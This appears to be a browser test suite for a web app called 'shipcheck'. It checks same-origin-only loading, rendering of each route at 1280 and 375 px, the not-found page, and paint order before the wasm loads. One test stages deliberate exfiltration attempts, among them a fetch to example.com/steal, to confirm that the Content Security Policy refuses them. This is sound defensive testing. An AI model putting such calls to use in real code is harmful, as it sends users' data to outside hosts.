// The foundation in a real browser: boot without errors, only same-origin requests,
// none after boot, a refused fetch after the lock, and every route renders.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { useBrowser, openPage, gotoBooted, screenshot, sent, ROUTES } from './harness.mjs';

const env = useBrowser();

test('the app boots with no console errors and only same-origin requests', async () => {
  const { page, ctx, log } = await openPage(env.browser);
  await gotoBooted(page, env.server.url + '/');
  await page.waitForTimeout(300);
  assert.deepEqual(log.errors, []);
  const origin = new URL(env.server.url).origin;
  const foreign = log.requests.filter((r) => !r.url.startsWith(origin + '/') && !r.url.startsWith('data:'));
  assert.deepEqual(foreign, [], 'third-party requests');
  const paths = log.requests.map((r) => new URL(r.url).pathname);
  assert.ok(paths.some((p) => /^\/app-.*_bg\.wasm$/.test(p)), `app wasm not loaded: ${paths}`);
  assert.ok(paths.includes('/worker_bg.wasm'), `worker wasm not loaded: ${paths}`);
  await ctx.close();
});

test('no request happens after boot, and a fetch from the page is refused', async () => {
  const { page, ctx, log } = await openPage(env.browser);
  await gotoBooted(page, env.server.url + '/');
  const countAtBoot = log.requests.length;
  const hitsAtBoot = env.server.hits.length;
  // Use the app: navigate through every route by its links, as a founder would.
  for (const path of ROUTES.slice(1)) {
    await page.click(`nav a[href="${path}"]`);
    await page.waitForSelector('main h1');
  }
  await page.waitForTimeout(500);
  assert.deepEqual(log.requests.slice(countAtBoot).map((r) => r.url), [], 'requests after boot');
  assert.deepEqual(env.server.hits.slice(hitsAtBoot), [], 'the server saw requests after boot');

  // Deliberate exfiltration attempts: each must be refused by the lock.
  log.expectedConsole.push(/Content Security Policy|Refused to/i);
  const outcome = await page.evaluate(async () => {
    const results = {};
    try {
      await fetch('/robots.txt', { cache: 'no-store' });
      results.sameOriginFetch = 'allowed';
    } catch (e) {
      results.sameOriginFetch = 'refused';
    }
    try {
      await fetch('https://example.com/steal?x=1', { mode: 'no-cors' });
      results.foreignFetch = 'allowed';
    } catch (e) {
      results.foreignFetch = 'refused';
    }
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    // sendBeacon and new Worker() report a CSP refusal asynchronously, as a violation.
    navigator.sendBeacon('/beacon', 'x');
    results.image = await new Promise((resolve) => {
      const img = new Image();
      img.onload = () => resolve('loaded');
      img.onerror = () => resolve('refused');
      img.src = '/robots.txt?img';
    });
    try {
      const w = new Worker('/worker_loader.js');
      results.worker = await new Promise((resolve) => {
        w.onerror = () => resolve('refused');
        w.onmessage = () => resolve('created');
        setTimeout(() => resolve('no answer'), 2000);
      });
    } catch (e) {
      results.worker = 'refused';
    }
    await new Promise((r) => setTimeout(r, 200));
    results.beacon = violations.includes('connect-src') ? 'refused' : 'not refused';
    results.workerViolation = violations.includes('worker-src');
    return results;
  });
  await page.waitForTimeout(300);
  assert.deepEqual(outcome, {
    sameOriginFetch: 'refused',
    foreignFetch: 'refused',
    beacon: 'refused',
    image: 'refused',
    worker: 'refused',
    workerViolation: true,
  });
  assert.deepEqual(sent(log.requests.slice(countAtBoot)), [], 'a request left the page after the lock');
  assert.deepEqual(env.server.hits.slice(hitsAtBoot), [], 'the server saw a request after the lock');
  assert.ok(log.requests.slice(countAtBoot).every((r) => r.blockedByCsp), 'every attempt is refused by the CSP');
  assert.deepEqual(log.errors, []);
  await ctx.close();
});

for (const path of ROUTES) {
  test(`route ${path} renders when opened directly, at 1280 px and 375 px`, async () => {
    for (const width of [1280, 375]) {
      const { page, ctx, log } = await openPage(env.browser, { viewport: { width, height: 900 } });
      await gotoBooted(page, env.server.url + path);
      const h1 = await page.textContent('main h1');
      assert.ok(h1 && h1.trim().length > 3, `${path}: empty h1`);
      const active = await page.$$eval('nav a.active', (as) => as.map((a) => a.getAttribute('href')));
      assert.deepEqual(active, path === '/' ? [] : [path]);
      const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
      assert.ok(overflow <= 0, `${path} at ${width}px overflows horizontally by ${overflow}px`);
      const title = await page.title();
      assert.match(title, /shipcheck/);
      assert.deepEqual(log.errors, [], `${path}: console errors`);
      await screenshot(page, `shell${path === '/' ? '-home' : path.replace('/', '-')}-${width}`);
      await ctx.close();
    }
  });
}

test('an unknown path shows the not-found page, not a blank screen', async () => {
  const { page, ctx, log } = await openPage(env.browser);
  await gotoBooted(page, env.server.url + '/no/such/page');
  assert.equal((await page.textContent('main h1')).trim(), 'Page not found');
  assert.deepEqual(log.errors, []);
  await ctx.close();
});

test('the prerendered page paints before the app wasm is fetched, and nothing preloads it', async () => {
  const { page, ctx, log } = await openPage(env.browser, { viewport: { width: 412, height: 823 } });
  await page.addInitScript(() => {
    window.__paints = [];
    new PerformanceObserver((l) => l.getEntries().forEach((e) => window.__paints.push(e.name)))
      .observe({ type: 'paint', buffered: true });
  });
  await gotoBooted(page, env.server.url + '/estimate');
  const preloads = await page.$$eval('link[rel=preload], link[rel=modulepreload]', (ls) => ls.map((l) => l.getAttribute('href')));
  assert.ok(!preloads.some((h) => /\.wasm$/.test(h)), `the wasm is preloaded: ${preloads}`);
  // Order, not speed: the wasm request starts after the first contentful paint.
  const order = await page.evaluate(() => {
    const fcp = performance.getEntriesByName('first-contentful-paint')[0];
    const wasm = performance.getEntriesByType('resource').find((r) => /\/app-[^/]*_bg\.wasm$/.test(r.name));
    return { fcp: fcp && fcp.startTime, wasm: wasm && wasm.startTime };
  });
  assert.ok(order.fcp !== undefined && order.wasm !== undefined, JSON.stringify(order));
  assert.ok(order.wasm > order.fcp, `wasm requested at ${order.wasm} ms, before the first paint at ${order.fcp} ms`);
  assert.deepEqual(log.errors, []);
  await ctx.close();
});
